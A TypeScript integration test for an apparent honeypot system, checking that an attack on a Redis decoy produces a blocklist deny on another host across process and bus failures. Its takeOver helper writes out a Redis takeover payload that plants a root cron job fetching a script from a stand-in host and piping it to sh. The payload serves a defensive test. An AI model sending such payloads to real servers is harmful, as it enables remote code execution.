// The four roles as processes of their own, over a real NATS server: from a touched decoy to a deny on another host, through every kill.
import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { connectClient } from '../src/cli/client.ts';
import { type Nats, natsFault, startNats } from './setup/nats.ts';

const root = join(import.meta.dirname, '..');
const roles = ['intake', 'analyse', 'serve', 'enforce'] as const;
type Role = (typeof roles)[number];
/** What one takeover comes to: its arrival, seven things that the decoy tells of it, and its end. */
const eventsOfOne = 9;
const patience = { timeout: 40_000, interval: 200 };

describe.skipIf(natsFault)(`roles${natsFault ? ` (${natsFault})` : ''}`, { timeout: 120_000 }, () => {
  const folder = mkdtempSync(join(tmpdir(), 'caltrop-roles-'));
  const config = join(folder, 'caltrop.yaml');
  const processes = new Map<Role, ChildProcess>();
  let nats: Nats;
  let redis = 0;

  const dataOf = (role: Role) => join(folder, role);
  async function start(role: Role): Promise<Record<string, unknown>> {
    const args = [role, ...(role === 'enforce' ? ['wall'] : []), '--config', config, '--data', dataOf(role)];
    const child = spawn(process.execPath, [join(root, 'caltrop'), ...args, '--json'], {
      stdio: ['ignore', 'pipe', 'ignore'],
    });
    processes.set(role, child);
    const [line] = (await once(createInterface({ input: child.stdout! }), 'line')) as [string];
    return JSON.parse(line);
  }
  async function end(role: Role, signal: NodeJS.Signals): Promise<void> {
    const child = processes.get(role);
    if (!child || child.exitCode !== null || child.signalCode !== null) return;
    child.kill(signal);
    await once(child, 'exit');
  }

  beforeAll(async () => {
    // The sensor's own user has to come through to its spool.
    chmodSync(folder, 0o711);
    nats = await startNats();
    const settings = (port: number) => `profile: lab
bus: {servers: ['${nats.servers}'], shards: 2, enforcers: [wall]}
decision: {mode: enforce}
server: {port: 0}
intake: {segmentAgeMs: 50, enrich: false}
sensor: {services: {ssh: {enabled: false}, telnet: {enabled: false}, http: {enabled: false}, redis: {port: ${port}}}}
enforcement: {blocklist: {enabled: true}}
`;
    writeFileSync(config, settings(0));
    for (const role of ['serve', 'enforce', 'analyse'] as const) await start(role);
    const { services } = (await start('intake')) as { services: { port: number }[] };
    redis = services[0]!.port;
    // So that the decoy is found again after a restart.
    writeFileSync(config, settings(redis));
  });
  afterAll(async () => {
    for (const role of roles) await end(role, 'SIGTERM');
    await nats?.remove();
    rmSync(folder, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  });

  function takeOver(ip: string): Promise<void> {
    return new Promise((resolve, reject) => {
      const socket = connect({ host: '127.0.0.1', port: redis, localAddress: ip });
      socket.on('error', reject);
      socket.on('close', () => resolve());
      socket.resume();
      socket.end(
        'CONFIG SET dir /var/spool/cron/\r\nCONFIG SET dbfilename root\r\nSET x "* * * * * curl http://192.0.2.66/b.sh|sh"\r\nSAVE\r\nQUIT\r\n',
      );
    });
  }
  const list = (role: Role) => {
    const path = join(dataOf(role), 'blocklist', 'all.txt');
    return existsSync(path) ? readFileSync(path, 'utf8') : '';
  };
  const denied = (ip: string) =>
    vi.waitFor(() => {
      expect(list('enforce')).toContain(ip);
      expect(list('serve')).toContain(ip);
    }, patience);
  async function stored(ip: string): Promise<Record<string, unknown>> {
    const api = (await connectClient(dataOf('serve')))!;
    return api.ask('GET', `/api/v1/sources/${ip}`);
  }

  it('denies on another host what was done to a decoy here', async () => {
    await takeOver('127.9.1.1');
    await denied('127.9.1.1');
    await vi.waitFor(
      async () => expect(Number((await stored('127.9.1.1')).events)).toBe(eventsOfOne),
      patience,
    );
    const { decisions } = (await stored('127.9.1.1')) as { decisions: { decision: { id: string } }[] };
    const api = (await connectClient(dataOf('serve')))!;
    await vi.waitFor(async () => {
      const why = JSON.stringify(await api.ask('GET', `/api/v1/why/${decisions[0]!.decision.id}`));
      expect(why).toContain('wall/blocklist');
    }, patience);
  });

  it.each(roles)('loses nothing and counts nothing twice where %s is killed', async (role) => {
    const ip = `127.9.2.${roles.indexOf(role) + 1}`;
    await end(role, 'SIGKILL');
    if (role !== 'intake') await takeOver(ip);
    await start(role);
    if (role === 'intake') await vi.waitFor(() => takeOver(ip), patience);
    await denied(ip);
    await vi.waitFor(async () => expect(Number((await stored(ip)).events)).toBe(eventsOfOne), patience);
  });

  it('goes on where the bus was killed', async () => {
    await nats.kill();
    await takeOver('127.9.3.1');
    await nats.start();
    await denied('127.9.3.1');
    await vi.waitFor(
      async () => expect(Number((await stored('127.9.3.1')).events)).toBe(eventsOfOne),
      patience,
    );
  });

  it('empties every host by the kill switch', async () => {
    const api = (await connectClient(dataOf('serve')))!;
    await api.ask('POST', '/api/v1/kill-switch', { reason: 'a drill' });
    await vi.waitFor(() => {
      expect(list('enforce')).not.toContain('127.9.');
      expect(list('serve')).not.toContain('127.9.');
    }, patience);
  });
});
